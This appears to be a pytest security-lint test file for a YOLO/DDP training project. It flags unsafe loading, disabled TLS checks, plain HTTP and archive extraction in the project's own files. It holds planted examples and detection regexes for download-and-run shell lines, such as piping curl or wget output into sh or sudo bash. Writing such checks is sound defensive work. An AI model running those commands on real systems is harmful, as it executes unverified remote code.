"""What no source file may contain and no rule of ruff names; `pyproject.toml` holds the others (S,
TID251, E722).
"""

import ast
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.support.plugin import PROJECT

# (file, rule): why it is allowed there. Tests may do what the project must not, to show what would
# happen.
ALLOWED = {
    (
        "benchmarks/gpu/wheels.py",
        "extract_all",
    ): "wheels that the user names; zipfile drops `..` and absolute paths",
    ("tests/prepare/download/test_web.py", "plain_http"): "a redirect that must be refused",
    (
        "tests/security/test_run.py",
        "plain_http",
    ): "addresses that must be refused, and a proxy with a secret",
    (
        "tests/security/test_weights.py",
        "torch_load",
    ): "the controls: opened without care the payload runs",
    (
        "yolo_seg_ddp/extras/maps/tests/test_metadata.py",
        "plain_http",
    ): "names of an XML namespace; nothing is fetched",
    ("tests/yolo/test_model.py", "torch_load"): "the control: opened without care the payload runs",
}
PLAIN_HTTP = re.compile(r"http://(?!127\.0\.0\.1|localhost|\[::1\]|www\.w3\.org)[\w{]")
LOADS = {"torch.load", "torch.hub.load", "torch.hub.load_state_dict_from_url"}
SHELL_RULES = {
    "eval": re.compile(r"(^|[;&|(\s])eval\s"),
    "download_and_run": re.compile(
        r"(curl|wget)\b[^\n]*\|\s*(sudo\s+)?(ba|da|z)?sh\b|(ba|da|z)?sh\s+<\(\s*(curl|wget)|"
        r"(source|\.)\s+<\(\s*(curl|wget)"
    ),
    "insecure_transfer": re.compile(
        r"curl\s([^\n]*\s)?(-k\b|--insecure)|wget\s[^\n]*--no-check-certificate|--trusted-host"
    ),
    "unhashed_install": re.compile(
        r"pip3? install (?![^\n]*--require-hashes)[^\n]*(requirements\.lock|https?://)"
    ),
}


def findings_in(source: str) -> set[str]:
    """Return the rules that a Python file breaks."""
    return {rule for node in ast.walk(ast.parse(source)) for rule in _broken_rules(node)}


def _broken_rules(node: ast.AST) -> Iterator[str]:
    if isinstance(node, ast.Call):
        name = ast.unparse(node.func)
        options = {option.arg: ast.unparse(option.value) for option in node.keywords}
        if name.removeprefix("builtins.") in ("compile", "__import__"):
            yield "runs_code"
        if name in LOADS and options.get("weights_only") != "True":
            yield "torch_load"
        if options.get("allow_pickle") == "True":
            yield "pickle"
        if options.get("verify") == "False":
            yield "unverified_tls"
        if name.rpartition(".")[2] in ("extractall", "unpack_archive"):
            yield "extract_all"
    elif (
        isinstance(node, ast.ImportFrom)
        and node.module == "torch"
        and "load" in {item.name for item in node.names}
    ):
        yield "torch_load"
    elif isinstance(node, ast.Module):
        stored = [
            name.id
            for line in node.body
            if isinstance(line, ast.Assign | ast.AnnAssign)
            for name in ast.walk(line)
            if isinstance(name, ast.Name) and isinstance(name.ctx, ast.Store) and name.id.isupper()
        ]
        if len(stored) > len(set(stored)):  # all readers would get the second value
            yield "constant_twice"
    elif isinstance(node, ast.ExceptHandler) and [ast.unparse(line) for line in node.body] == [
        "..."
    ]:
        yield "except_pass"
    elif (
        isinstance(node, ast.Constant)
        and isinstance(node.value, str)
        and PLAIN_HTTP.match(node.value)
    ):
        yield "plain_http"


def shell_findings_in(source: str) -> list[str]:
    """Return the rules that a shell script or Makefile breaks; its comments do not count."""
    code = "\n".join(re.sub(r"(^|\s)#.*$", "", line) for line in source.splitlines())
    return [name for name, pattern in SHELL_RULES.items() if pattern.search(code)]


def project_files(*patterns: str) -> dict[str, str]:
    """Return the text of the project's own files: what lies beside the scripts, not what was
    installed or downloaded.
    """
    ignored = {
        ".venv",
        "data",
        "models",
        "outputs",
        ".git",
        ".mypy_cache",
        ".pytest_cache",
        ".ruff_cache",
        "build",
    }
    files = sorted(
        path.relative_to(PROJECT) for pattern in patterns for path in PROJECT.rglob(pattern)
    )
    return {
        path.as_posix(): (PROJECT / path).read_text("utf-8")
        for path in files
        if not ignored & {*path.parts}
    }


def test_no_source_file_contains_what_is_forbidden_and_every_exception_is_needed() -> None:
    files = project_files("*.py")
    assert len(files) > 100
    assert {(name, rule) for name, source in files.items() for rule in findings_in(source)} == set(
        ALLOWED
    )


def test_no_shell_script_contains_what_is_forbidden() -> None:
    files = project_files("*.sh", "Makefile", "*.yml", "*.yaml", "Dockerfile*", "*.sbatch")
    assert {"train_ddp.sh", "demo.sh", "Makefile"} <= set(files)
    assert [name for name, source in files.items() if shell_findings_in(source)] == []


@pytest.mark.parametrize(
    ("planted", "rules"),
    [
        ("compile(text, 'x', 'exec')", {"runs_code"}),
        ("np.load(file, allow_pickle=True)", {"pickle"}),
        ("torch.load(file)", {"torch_load"}),
        ("torch.load(file, weights_only=False)", {"torch_load"}),
        ("torch.load(file, weights_only=flag)", {"torch_load"}),
        ("from torch import load as read\nread(file)", {"torch_load"}),
        ("session.get(url, verify=False)", {"unverified_tls"}),
        ("requests.get('http://example.org/a')", {"plain_http"}),
        ("try:\n    work()\nexcept ValueError:\n    ...", {"except_pass"}),
        ("archive.extractall(folder)", {"extract_all"}),
        ("REACH = 0.5\nREACH, SAMPLES = 1.5, 17", {"constant_twice"}),
        ("REACH: float = 0.5\nREACH = 1.5", {"constant_twice"}),
        ("REACH = 0.5\nPOLE = made(REACH)\nPOLE[:, 4] = True\ndef run():\n    REACH = 1.5", set()),
        (
            "model.eval()\nre.compile(text)\ntorch.compile(model)\ntorch.load(file, "
            "weights_only=True)",
            set(),
        ),
        ("requests.get('https://example.org')\nurl = 'http://127.0.0.1:80/'", set()),
        ("try:\n    work()\nexcept ValueError:\n    value = None", set()),
    ],
)
def test_each_rule_catches_a_planted_example(planted: str, rules: set[str]) -> None:
    assert findings_in(planted) == rules


RUFF = [
    ("eval(text)", "S307"),
    ("exec(text)", "S102"),
    ("import pickle\npickle.loads(data)", "S301"),
    ("import dill", "TID251"),
    ("import torch.distributed as dist\ndist.broadcast_object_list(things)", "TID251"),
    ("from torch.distributed import all_gather_object\nall_gather_object(a, b)", "TID251"),
    ("import torch.distributed as dist\ndist.gather_object(a)", "TID251"),
    ("import torch.distributed as dist\ndist.scatter_object_list(a, b)", "TID251"),
    ("import yaml\nyaml.load(text)", "S506"),
    ("import yaml\nyaml.full_load(text)", "TID251"),
    ("import subprocess\nsubprocess.run(words, shell=True)", "S602"),
    ("import os\nos.system(words)", "S605"),
    ("import ssl\nssl._create_unverified_context()", "S323"),
    ("import ssl\ncontext.verify_mode = ssl.CERT_NONE", "TID251"),
    ("import urllib3\nurllib3.disable_warnings()", "TID251"),
    ("try:\n    work()\nexcept:\n    value = None", "E722"),
    ("try:\n    work()\nexcept Exception:\n    pass", "S110"),
    ("import tempfile\ntempfile.mktemp()", "S306"),
]


def test_ruff_catches_the_planted_examples_of_its_rules(tmp_path: Path) -> None:
    for number, (planted, _) in enumerate(RUFF):
        (tmp_path / f"{number}.py").write_text(planted + "\n")
    command = [
        sys.executable,
        "-m",
        "ruff",
        "check",
        "--config",
        str(PROJECT / "pyproject.toml"),
        "--no-cache",
    ]
    command += ["--output-format", "concise", str(tmp_path)]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    for number, (planted, rule) in enumerate(RUFF):
        assert re.search(rf"\b{number}\.py:\d+:\d+: {rule} ", done.stdout), (planted, done.stdout)


@pytest.mark.parametrize(
    ("planted", "rule"),
    [
        ('eval "$command"', "eval"),
        ("curl -s https://example.org/x | sh", "download_and_run"),
        ("wget -qO- https://example.org/x | sudo bash", "download_and_run"),
        ("bash <(curl -s https://example.org)", "download_and_run"),
        ("curl -k https://example.org", "insecure_transfer"),
        ("pip install --trusted-host example.org x", "insecure_transfer"),
        ("pip install -r requirements.lock", "unhashed_install"),
    ],
)
def test_each_shell_rule_catches_a_planted_example(planted: str, rule: str) -> None:
    assert rule in shell_findings_in(planted)
    assert shell_findings_in("# " + planted) == []
